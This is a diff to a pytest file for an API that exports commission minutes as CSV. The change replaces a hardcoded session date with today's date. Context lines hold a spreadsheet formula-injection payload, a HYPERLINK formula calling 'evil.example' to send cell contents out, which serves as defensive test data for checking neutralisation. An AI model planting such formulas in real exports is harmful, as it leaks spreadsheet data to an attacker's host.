@@ -10,9 +10,14 @@ from datetime import date
 import openpyxl
 import pytest
 
+from api.mesures.service import aujourdhui
 from tests import factories_indicateurs as fi
 from tests.factories import Monde
 from tests.factories_orientations import creer_convention, creer_dispositif, orienter
+
+# Sessions are held on a day that exists: not before the referrals they decide were
+# received (today), not in the future.
+AUJOURDHUI = aujourdhui().isoformat()
 
 LIEN = '=HYPERLINK("https://evil.example/?d="&A2,"Ouvrir")'
 # One text per character a spreadsheet starts a formula with (tab and CR before one).
@@ -44,7 +49,7 @@ def test_minutes_csv_neutralise_comments_and_names(client, monde: Monde, db) -> 
     os_ = [orienter(client, monde, d["id"]) for _ in range(2)]
     s = client.post(
         "/api/v1/commissions",
-        json={"dispositif_id": d["id"], "date": "2026-03-10", "lieu": "Rennes"},
+        json={"dispositif_id": d["id"], "date": AUJOURDHUI, "lieu": "Rennes"},
         headers=monde.h("gie"),
     ).json()
     client.post(
@@ -85,7 +90,7 @@ def test_minutes_csv_neutralise_comments_and_names(client, monde: Monde, db) -> 
     assert accepte[10] == "'" + PIEGES[2]  # association mandatée
     assert refuse[14] == "'" + PIEGES[3]
     assert all(_sans_danger(cell) for row in rows for cell in row)
-    assert accepte[8] == "10/03/2026"  # the rest as it was
+    assert accepte[8] == aujourdhui().strftime("%d/%m/%Y")  # the rest as it was
 
 
 @pytest.fixture
